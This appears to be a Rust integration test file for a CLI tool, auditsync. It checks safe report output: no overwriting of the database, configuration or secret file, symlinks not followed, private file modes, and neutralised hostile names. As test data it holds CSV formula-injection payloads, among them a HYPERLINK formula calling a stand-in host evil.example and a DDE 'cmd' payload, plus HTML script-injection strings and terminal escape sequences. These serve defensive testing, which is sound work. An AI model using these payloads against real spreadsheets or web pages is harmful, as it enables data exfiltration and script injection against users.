//! Files auditsync writes besides its database, and what it prints: `report --output` and
//! `simulator --write-config` never write over the database (its `-wal`, `-shm`, journal or lock) or
//! the configuration, whatever path names them; an existing file is replaced only with `--force`,
//! atomically and private (0600), and a symbolic link is replaced, never followed. The database and
//! the demo's folder are private. Reports are safe to open: CSV cells cannot be formulas, the table
//! escapes control characters and aligns wide characters, a 65,536-character name breaks nothing.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::Value;
use unicode_width::UnicodeWidthStr;

use crate::common::{Run, TestEnv, set_mode};
use crate::report::{launch, store_with};

const APP: &str = "11111111-1111-1111-1111-111111111111";

/// A configured folder with a database of three launches.
fn small_store() -> TestEnv {
    store_with(&[
        launch(
            "2026-01-05T08:00:00Z",
            "alice@contoso.com",
            Some(APP),
            Some("Expenses"),
            Some("env-1"),
            256,
        ),
        launch(
            "2026-01-06T08:00:00Z",
            "bob@contoso.com",
            Some(APP),
            Some("Expenses"),
            Some("env-1"),
            256,
        ),
    ])
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Every file in the folder (not following links) and its bytes, to show that nothing changed.
fn snapshot(dir: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    let mut out: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let path = e.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let bytes = meta.is_file().then(|| std::fs::read(&path).unwrap());
            (name, bytes)
        })
        .collect();
    out.sort();
    out
}

fn report(env: &TestEnv, args: &[&str]) -> Run {
    let mut all = vec!["report"];
    all.extend_from_slice(args);
    env.run(&all)
}

#[cfg(unix)]
#[test]
fn report_output_never_writes_over_the_database_its_companions_or_the_configuration() {
    let env = small_store();
    let dir = env.dir.path();
    let abs = |name: &str| dir.join(name).to_string_lossy().into_owned();
    std::fs::create_dir(dir.join("sub")).unwrap();
    std::os::unix::fs::symlink(dir.join("auditsync.db"), dir.join("db-link.html")).unwrap();
    std::os::unix::fs::symlink(dir.join("auditsync.toml"), dir.join("config-link.csv")).unwrap();
    std::os::unix::fs::symlink(dir.join("auditsync.db-wal"), dir.join("wal-link.csv")).unwrap();
    std::fs::hard_link(dir.join("auditsync.db"), dir.join("db-hard.json")).unwrap();
    std::fs::hard_link(dir.join("auditsync.toml"), dir.join("config-hard.txt")).unwrap();
    // Another configuration's database: not this one's, but a database all the same.
    std::fs::copy(dir.join("auditsync.db"), dir.join("other.db")).unwrap();
    assert!(dir.join("auditsync.db.lock").exists());
    let before = snapshot(dir);

    let cases: Vec<(String, &str)> = vec![
        ("auditsync.db".into(), "database"),
        ("./auditsync.db".into(), "database"),
        ("sub/../auditsync.db".into(), "database"),
        (abs("auditsync.db"), "database"),
        ("db-link.html".into(), "database"),
        ("db-hard.json".into(), "database"),
        // Companions that do not exist yet (no sync is running): SQLite would create them there.
        ("auditsync.db-wal".into(), "database"),
        ("./auditsync.db-shm".into(), "database"),
        (abs("sub/../auditsync.db-wal"), "database"),
        ("wal-link.csv".into(), "database"),
        ("auditsync.db-journal".into(), "database"),
        ("auditsync.db.lock".into(), "database"),
        ("auditsync.toml".into(), "configuration"),
        (abs("auditsync.toml"), "configuration"),
        ("config-link.csv".into(), "configuration"),
        ("config-hard.txt".into(), "configuration"),
        ("other.db".into(), "SQLite database"),
    ];
    for (target, what) in &cases {
        for format in ["html", "csv", "json", "table"] {
            for force in [false, true] {
                let mut args = vec!["apps", "--format", format, "--output", target.as_str()];
                if force {
                    args.push("--force");
                }
                let run = report(&env, &args);
                run.assert_code(2).assert_stderr(what);
                assert!(run.stdout.is_empty(), "{}", run.all());
            }
        }
    }
    assert_eq!(snapshot(dir), before, "nothing was written or left behind");
    // The database still works.
    report(&env, &["apps", "--format", "json"]).assert_code(0);
}

#[cfg(unix)]
#[test]
fn a_database_named_through_a_symlink_is_known_by_its_real_files() {
    let env = small_store();
    let dir = env.dir.path();
    std::fs::create_dir(dir.join("data")).unwrap();
    std::fs::rename(dir.join("auditsync.db"), dir.join("data/real.db")).unwrap();
    std::fs::remove_file(dir.join("auditsync.db.lock")).unwrap();
    std::os::unix::fs::symlink(dir.join("data/real.db"), dir.join("auditsync.db")).unwrap();
    let before = snapshot(&dir.join("data"));
    for target in [
        "data/real.db",
        "data/real.db-wal",
        "data/real.db-shm",
        "data/./real.db-wal",
        "auditsync.db",
    ] {
        report(&env, &["apps", "--output", target, "--force"])
            .assert_code(2)
            .assert_stderr("database");
    }
    assert_eq!(snapshot(&dir.join("data")), before);
}

#[cfg(unix)]
#[test]
fn report_output_replaces_an_existing_file_only_with_force_atomically_and_private() {
    let env = small_store();
    let dir = env.dir.path();

    // A new file: written, 0600 (reports hold user names), nothing printed on stdout.
    let run = report(&env, &["users", "--format", "csv", "--output", "users.csv"]);
    run.assert_code(0);
    assert!(run.stdout.is_empty(), "{}", run.all());
    assert_eq!(mode(&dir.join("users.csv")), 0o600);
    assert!(
        std::fs::read_to_string(dir.join("users.csv"))
            .unwrap()
            .contains("alice@contoso.com")
    );
    // Quiet under -q: nothing on either stream for cron to mail.
    let run = env.run(&[
        "-q",
        "report",
        "apps",
        "--format",
        "json",
        "--output",
        "quiet.json",
    ]);
    run.assert_code(0);
    assert!(
        run.stdout.is_empty() && run.stderr.is_empty(),
        "{}",
        run.all()
    );

    // An existing file is kept without --force, whatever the format.
    std::fs::write(dir.join("apps.csv"), "keep me\n").unwrap();
    set_mode(&dir.join("apps.csv"), 0o644);
    for format in ["csv", "json", "table", "html"] {
        report(&env, &["apps", "--format", format, "--output", "apps.csv"])
            .assert_code(2)
            .assert_stderr("apps.csv")
            .assert_stderr("--force");
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("apps.csv")).unwrap(),
        "keep me\n"
    );
    // With --force it is replaced: the whole report, now private.
    report(
        &env,
        &["apps", "--format", "csv", "--output", "apps.csv", "--force"],
    )
    .assert_code(0);
    let text = std::fs::read_to_string(dir.join("apps.csv")).unwrap();
    assert!(text.starts_with("app_id,app_name"), "{text}");
    assert_eq!(mode(&dir.join("apps.csv")), 0o600);

    // A symbolic link is never followed: refused without --force, replaced itself with it.
    std::fs::write(dir.join("elsewhere.txt"), "not yours\n").unwrap();
    std::os::unix::fs::symlink(dir.join("elsewhere.txt"), dir.join("out.json")).unwrap();
    std::os::unix::fs::symlink(dir.join("nothing-here"), dir.join("dangling.json")).unwrap();
    for link in ["out.json", "dangling.json"] {
        report(&env, &["apps", "--format", "json", "--output", link])
            .assert_code(2)
            .assert_stderr("--force");
        report(
            &env,
            &["apps", "--format", "json", "--output", link, "--force"],
        )
        .assert_code(0);
        let meta = std::fs::symlink_metadata(dir.join(link)).unwrap();
        assert!(meta.is_file(), "{link} is now a file, not a link");
        assert_eq!(mode(&dir.join(link)), 0o600);
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("elsewhere.txt")).unwrap(),
        "not yours\n"
    );
    assert!(!dir.join("nothing-here").exists());

    // A folder is not a file.
    report(&env, &["apps", "--output", "."])
        .assert_code(2)
        .assert_stderr("folder");
    // No temporary file is left behind.
    let leftovers: Vec<_> = snapshot(dir)
        .into_iter()
        .map(|(n, _)| n)
        .filter(|n| n.starts_with('.') || n.contains(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Runs `auditsync simulator` with `args`: the exit code if it stopped by itself, else `None` once
/// it was serving (it is then killed), and its stdout.
pub(crate) fn simulator(env: &TestEnv, args: &[&str]) -> (Option<i32>, String, String) {
    let mut child = env
        .cmd()
        .arg("simulator")
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = String::new();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut serving = false;
    for line in lines.by_ref() {
        let line = line.unwrap();
        stdout.push_str(&line);
        stdout.push('\n');
        if line.contains("press Ctrl-C") {
            serving = true;
            break;
        }
    }
    if serving {
        child.kill().unwrap();
    }
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let code = if serving { None } else { out.status.code() };
    env.assert_nothing_leaked(&format!("{stdout}{stderr}"));
    (code, stdout, stderr)
}

#[cfg(unix)]
#[test]
fn simulator_write_config_never_overwrites_without_force_nor_follows_a_link() {
    let env = TestEnv::new();
    let dir = env.dir.path();

    // A new file: 0600 (it holds the client secret).
    let (code, stdout, _) = simulator(&env, &["--write-config", "sim.toml"]);
    assert_eq!(code, None, "{stdout}");
    assert_eq!(mode(&dir.join("sim.toml")), 0o600);
    let first = std::fs::read_to_string(dir.join("sim.toml")).unwrap();
    assert!(first.contains("client_secret"), "{first}");

    // An existing configuration is refused without --force, before anything is served.
    let mine = "tenant_id = \"mine\"\n";
    std::fs::write(dir.join("auditsync.toml"), mine).unwrap();
    set_mode(&dir.join("auditsync.toml"), 0o644);
    let (code, stdout, stderr) = simulator(&env, &["--write-config", "auditsync.toml"]);
    assert_eq!(code, Some(2), "{stdout}{stderr}");
    assert!(stderr.contains("--force"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(dir.join("auditsync.toml")).unwrap(),
        mine
    );
    // With --force: replaced, and 0600 although the old file was 0644.
    let (code, ..) = simulator(&env, &["--write-config", "auditsync.toml", "--force"]);
    assert_eq!(code, None);
    assert_eq!(mode(&dir.join("auditsync.toml")), 0o600);
    assert!(
        std::fs::read_to_string(dir.join("auditsync.toml"))
            .unwrap()
            .contains("client_secret")
    );

    // A database is never replaced, not even with --force.
    let db = dir.join("auditsync.db");
    let lock = auditsync_core::store::RunLock::try_acquire(&db).unwrap();
    drop(auditsync_core::store::open_write(&db, lock).unwrap());
    let before = std::fs::read(&db).unwrap();
    let (code, _, stderr) = simulator(&env, &["--write-config", "auditsync.db", "--force"]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("SQLite database"), "{stderr}");
    assert_eq!(std::fs::read(&db).unwrap(), before);

    // A symbolic link: refused without --force, and with it the link itself is replaced; the file it
    // pointed to is untouched.
    std::fs::write(dir.join("target.toml"), mine).unwrap();
    set_mode(&dir.join("target.toml"), 0o644);
    std::os::unix::fs::symlink(dir.join("target.toml"), dir.join("link.toml")).unwrap();
    let (code, ..) = simulator(&env, &["--write-config", "link.toml"]);
    assert_eq!(code, Some(2));
    let (code, ..) = simulator(&env, &["--write-config", "link.toml", "--force"]);
    assert_eq!(code, None);
    assert!(
        std::fs::symlink_metadata(dir.join("link.toml"))
            .unwrap()
            .is_file()
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("target.toml")).unwrap(),
        mine
    );
    assert_eq!(mode(&dir.join("target.toml")), 0o644);
    assert_eq!(mode(&dir.join("link.toml")), 0o600);
}

#[cfg(unix)]
#[test]
fn the_database_is_created_private() {
    let env = TestEnv::new();
    env.write_config("[sync]\nstart_time_interval = 2\nstart_time_unit = \"hour\"\n");
    env.run(&["subscribe", "start"]).assert_code(0);
    env.run(&["sync"]).assert_code(0);
    let dir = env.dir.path();
    assert_eq!(mode(&dir.join("auditsync.db")), 0o600);
    for companion in ["auditsync.db-wal", "auditsync.db-shm"] {
        if dir.join(companion).exists() {
            assert_eq!(mode(&dir.join(companion)), 0o600, "{companion}");
        }
    }
}

/// The folder the demo names on its last lines.
fn demo_folder(run: &Run) -> PathBuf {
    let line = run
        .stdout
        .lines()
        .find(|l| l.contains("$ auditsync report apps --format html --output"))
        .unwrap_or_else(|| panic!("{}", run.all()));
    let page = PathBuf::from(line.rsplit(' ').next().unwrap());
    page.parent().unwrap().to_owned()
}

#[cfg(unix)]
#[test]
fn the_demo_works_in_a_fresh_private_folder() {
    let env = TestEnv::new();
    let tmp = env.path("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let tmp_s = tmp.to_string_lossy().into_owned();
    let first = env.run_with(&["demo"], &[("TMPDIR", &tmp_s)]);
    first.assert_code(0);
    let folder = demo_folder(&first);
    assert!(folder.starts_with(&tmp), "{}", folder.display());
    assert_eq!(mode(&folder), 0o700);
    assert_eq!(mode(&folder.join("auditsync.db")), 0o600);
    assert_eq!(mode(&folder.join("usage.html")), 0o600);
    first.assert_stdout(&folder.display().to_string());
    // The name is not predictable from the process id.
    let name = folder.file_name().unwrap().to_string_lossy().into_owned();
    let digits = name.trim_start_matches("auditsync-demo-");
    assert!(
        digits.parse::<u32>().is_err(),
        "a name made of the pid: {name}"
    );

    let second = env.run_with(&["demo"], &[("TMPDIR", &tmp_s)]);
    second.assert_code(0);
    assert_ne!(demo_folder(&second), folder, "a fresh folder every time");
    assert!(folder.join("usage.html").exists(), "the first one is kept");
}

#[test]
fn demo_and_simulator_refuse_a_configuration_they_would_ignore() {
    let env = TestEnv::new();
    env.write_config("");
    for args in [
        vec!["demo", "--config", "auditsync.toml"],
        vec!["--config", "auditsync.toml", "demo"],
        vec!["simulator", "--config", "auditsync.toml"],
    ] {
        let run = env.run(&args);
        run.assert_code(2).assert_stderr("--config");
        assert!(run.stdout.is_empty(), "{}", run.all());
    }
    env.run(&["simulator", "--config", "auditsync.toml"])
        .assert_stderr("--write-config");
}

#[test]
fn report_help_offers_only_the_formats_each_report_has() {
    let env = small_store();
    let apps = env.run(&["report", "apps", "--help"]);
    apps.assert_code(0).assert_stdout("html");
    for kind in ["users", "daily"] {
        let help = env.run(&["report", kind, "--help"]);
        help.assert_code(0).assert_stdout("csv");
        assert!(!help.stdout.contains("html"), "{kind}: {}", help.stdout);
        let run = env.run(&["report", kind, "--format", "html", "--output", "x.html"]);
        run.assert_code(2).assert_stderr("table, csv, json");
        assert!(!env.path("x.html").exists());
    }
}

/// Names an attacker (or a careless maker) can give an app, a user or an environment.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
];

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let rows: Vec<_> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, f)| (format!("2026-01-0{}T08:00:00Z", 1 + i % 9), *f))
        .collect();
    let env = store_with(
        &rows
            .iter()
            .map(|(t, f)| launch(t, f, Some(f), Some(f), Some(f), 256))
            .collect::<Vec<_>>(),
    );
    for kind in ["apps", "users"] {
        let run = report(&env, &[kind, "--format", "csv"]);
        run.assert_code(0);
        let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
        let mut seen = 0;
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter() {
                let first = cell.chars().next();
                assert!(
                    !matches!(
                        first,
                        Some('=' | '+' | '-' | '@' | '\t' | '\r' | ' ' | '＝')
                    ),
                    "{kind}: a cell a spreadsheet would run: {cell:?}\n{}",
                    run.stdout
                );
                if let Some(rest) = cell.strip_prefix('\'') {
                    // User names are reported lower-cased.
                    assert!(
                        FORMULAS
                            .iter()
                            .any(|f| f.to_lowercase() == rest.to_lowercase()),
                        "{cell:?}"
                    );
                    seen += 1;
                }
            }
        }
        let want = if kind == "apps" { 3 } else { 1 } * FORMULAS.len();
        assert_eq!(seen, want, "{kind}: every text column\n{}", run.stdout);
        // Each neutralised cell is quoted too.
        assert!(
            run.stdout.to_lowercase().contains("\"'=hyperlink("),
            "{}",
            run.stdout
        );
    }
    // JSON keeps the values as they are (it is data, not a spreadsheet).
    let run = report(&env, &["apps", "--format", "json"]);
    let v: Value = serde_json::from_str(&run.stdout).unwrap();
    let names: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["app_name"].as_str().unwrap())
        .collect();
    for f in FORMULAS {
        assert!(names.contains(f), "{f:?} in {names:?}");
    }
}

#[test]
fn hostile_and_wide_names_keep_the_table_aligned_and_break_nothing() {
    let long = "x".repeat(65_536);
    let names: Vec<String> = vec![
        "経費精算アプリ".into(),
        "🚀 Launch 🚀".into(),
        "red\u{1b}[31m alert\u{1b}[0m".into(),
        "two\nlines".into(),
        "carriage\rreturn".into(),
        "bell\u{7}\u{9b}31m".into(),
        "rtl \u{202e}gnp.exe".into(),
        long.clone(),
        "Plain".into(),
    ];
    let rows: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            (
                format!("2026-01-01T08:{i:02}:00Z"),
                format!("{i}1111111-1111-1111-1111-111111111111"),
                n.as_str(),
            )
        })
        .collect();
    let env = store_with(
        &rows
            .iter()
            .map(|(t, id, n)| launch(t, "alice@contoso.com", Some(id), Some(n), Some("env"), 256))
            .collect::<Vec<_>>(),
    );
    let run = report(&env, &["apps"]);
    run.assert_code(0);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines.len(),
        names.len() + 1,
        "one line per app\n{}",
        run.stdout
    );
    assert!(
        !run.stdout
            .chars()
            .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
        "no raw control characters: {:?}",
        run.stdout
    );
    assert!(run.stdout.contains("\\u{1b}[31m"), "{}", run.stdout);
    // Every line is short, and the column after the name starts at the same display column.
    let width = |s: &str| UnicodeWidthStr::width(s);
    let at = |line: &str| {
        let start = line.find("env").or_else(|| line.find("ENVIRONMENT"));
        width(&line[..start.unwrap()])
    };
    let col = at(lines[0]);
    for line in &lines {
        assert!(width(line) < 300, "a line of {} columns", width(line));
        assert_eq!(at(line), col, "misaligned:\n{}", run.stdout);
    }
    assert!(run.stdout.contains('…'), "{}", run.stdout);

    // CSV and JSON keep every name whole.
    let csv = report(&env, &["apps", "--format", "csv"]);
    csv.assert_code(0);
    assert!(csv.stdout.contains(&long));
    let json = report(&env, &["apps", "--format", "json"]);
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    let got: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["app_name"].as_str().unwrap())
        .collect();
    for n in &names {
        assert!(got.contains(&n.as_str()));
    }
    // HTML escapes them and keeps the page whole.
    report(&env, &["apps", "--format", "html", "--output", "u.html"]).assert_code(0);
    let html = std::fs::read_to_string(env.path("u.html")).unwrap();
    assert!(html.contains(&long) && html.contains("経費精算アプリ"));
    assert!(html.trim_end().ends_with("</html>"));
    assert!(
        !html.contains('\u{1b}') && !html.contains('\u{7}'),
        "control characters in the page"
    );
}

#[test]
fn html_names_cannot_inject_markup() {
    let hostile = [
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(2)>",
        "' onmouseover='alert(3)",
        "</td></tr></table><script>alert(4)</script>",
        "&lt;already&gt;",
    ];
    let rows: Vec<_> = hostile
        .iter()
        .enumerate()
        .map(|(i, n)| {
            (
                format!("2026-01-01T08:{i:02}:00Z"),
                format!("{i}1111111-1111-1111-1111-111111111111"),
                *n,
            )
        })
        .collect();
    let env = store_with(
        &rows
            .iter()
            .map(|(t, id, n)| launch(t, n, Some(id), Some(n), Some(n), 256))
            .collect::<Vec<_>>(),
    );
    report(&env, &["apps", "--format", "html", "--output", "u.html"]).assert_code(0);
    let html = std::fs::read_to_string(env.path("u.html")).unwrap();
    for bad in [
        "<img src",
        "<svg onload",
        "<script>alert",
        "' onmouseover",
        "&lt;already",
    ] {
        if bad == "&lt;already" {
            assert!(html.contains("&amp;lt;already"), "double-escaped as text");
            continue;
        }
        assert!(!html.contains(bad), "{bad} reached the page");
    }
}

#[test]
fn report_output_never_writes_over_the_client_secret_file_or_a_config_named_by_the_environment() {
    let env = small_store();
    let text = format!(
        "client_secret_file = \"secret.txt\"\n{}",
        env.config_without_secret("")
    );
    env.write(
        "conf/other.toml",
        &text.replace("auditsync.db", "../auditsync.db"),
    );
    env.write("conf/secret.txt", &env.secret());
    let config = env.path("conf/other.toml");
    let config = config.to_str().unwrap();
    for (target, what) in [
        ("conf/secret.txt", "client secret file"),
        ("conf/other.toml", "configuration file"),
        ("conf/../auditsync.db", "database"),
    ] {
        env.run_with(
            &["report", "apps", "--output", target, "--force"],
            &[("AUDITSYNC_CONFIG", config)],
        )
        .assert_code(2)
        .assert_stderr(what);
    }
    assert_eq!(
        std::fs::read_to_string(env.path("conf/secret.txt")).unwrap(),
        env.secret()
    );
}
